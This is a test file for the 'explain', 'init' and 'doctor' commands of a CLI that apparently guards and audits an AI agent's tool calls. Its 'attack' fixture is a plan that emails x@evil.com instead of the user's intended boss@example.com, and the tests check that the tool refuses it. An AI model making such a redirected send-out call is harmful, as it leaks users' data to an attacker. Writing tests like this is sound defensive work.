// `sluice explain`, `init` and `doctor` in real processes: exit codes, files, both streams.
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { projectRoot } from '../../../project.js';
import { scratchFile, scratchFolder } from '../stores/scratch.js';
import { hostPath, runCli } from './cli-process.js';
import { planOfCall } from './plan-file.js';

async function auditOf(plan: string): Promise<string> {
  const path = scratchFile();
  const query = 'Mail "hello" to boss@example.com';
  await runCli('run', hostPath('office'), '--query', query, '--plan', plan, '--audit', path);
  return path;
}

const attack = (): string => planOfCall('send_email', { to: 'x@evil.com', body: 'hello' });

describe('explain', () => {
  test('shows text without colours in a pipe, and a page in a new file', async () => {
    const plan = attack();
    const audit = await auditOf(plan);
    const shown = await runCli('explain', 'last', '--audit', audit, '--plan', plan);
    expect(shown).toMatchObject({ exitCode: 0, stderr: '' });
    expect(shown.stdout).toContain('refused at provenance: critical_untrusted');
    expect(shown.stdout).toContain('the plan is the one that ran');
    expect(shown.stdout).not.toContain('\u001b');
    expect(shown.stdout).not.toContain('evil.com');
    const out = join(scratchFolder(), 'run.html');
    const written = await runCli('explain', 'last', '--audit', audit, '--html', out);
    expect(written).toMatchObject({ exitCode: 0, stdout: `wrote ${out}\n` });
    expect(readFileSync(out, 'utf8')).toMatch(/^<!doctype html>/);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const again = await runCli('explain', 'last', '--audit', audit, '--html', audit);
    expect(again.exitCode).toBe(1);
    expect(again.stderr).toContain('error output_unwritable');
    expect(readFileSync(audit, 'utf8')).toMatch(/^\{"v":1/);
  });

  test('exits with 2 for a chain that does not hold, and 1 for a run that is not there', async () => {
    const audit = await auditOf(attack());
    const json = await runCli('explain', 'last', '--audit', audit, '--json');
    expect(JSON.parse(json.stdout)).toMatchObject({ chain: { ok: true }, run: { records: 4 } });
    const none = await runCli('explain', 'nope', '--audit', audit, '--json');
    expect(none.exitCode).toBe(1);
    expect(JSON.parse(none.stdout)).toMatchObject({ error: { code: 'run_unknown' } });
    writeFileSync(audit, readFileSync(audit, 'utf8').replace('"depth":0', '"depth":7'));
    const broken = await runCli('explain', 'last', '--audit', audit);
    expect(broken.exitCode).toBe(2);
    expect(broken.stdout).toMatch(/^THE CHAIN OF RECORDS DOES NOT HOLD/);
  });
});

describe('init and doctor', () => {
  let folder: string;
  beforeAll(() => {
    folder = mkdtempSync(join(projectRoot, 'dist/init-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test('every command that `init` names next runs', async () => {
    const made = await runCli('init', join(folder, 'first'), '--json');
    expect(made).toMatchObject({ exitCode: 0, stderr: '' });
    const { next } = JSON.parse(made.stdout) as { readonly next: readonly { command: string }[] };
    const codes: (number | null)[] = [];
    for (const { command } of next) {
      const words = command.match(/'[^']*'|\S+/g)?.map((word) => word.replaceAll("'", '')) ?? [];
      codes.push((await runCli(...words.slice(2))).exitCode);
    }
    expect(codes).toEqual([0, 2, 0, 0]);
    const again = await runCli('init', join(folder, 'first'));
    expect(again.exitCode).toBe(1);
    expect(again.stderr).toContain('error output_unwritable');
  });

  test('doctor exits with 2 for a fault and says the mend', async () => {
    const audit = await auditOf(attack());
    rmSync(`${audit}.key`);
    const { exitCode, stdout } = await runCli('doctor', '--audit', audit);
    expect(exitCode).toBe(2);
    expect(stdout).toMatch(/^fault {2}audit .*; mend: /m);
    const json = await runCli('doctor', '--audit', audit, '--json');
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false });
  });

  test('doctor reads settings of the gateway as such', async () => {
    const config = scratchFile();
    writeFileSync(config, '[principal]\nid = "user:me@example.com"\n[servers.a]\ncommand = "a"\n');
    const { exitCode, stdout } = await runCli('doctor', '--config', config);
    expect([exitCode, stdout]).toEqual([0, expect.stringContaining('ok     gateway')]);
    expect(stdout).not.toMatch(/^\w+ +settings/m);
    writeFileSync(config, '[servers.a]\ncommand = "a"\n');
    const broken = await runCli('doctor', '--config', config);
    expect(broken.exitCode).toBe(2);
    expect(broken.stdout).toMatch(/^fault {2}gateway .*`principal` is missing/m);
  });
});
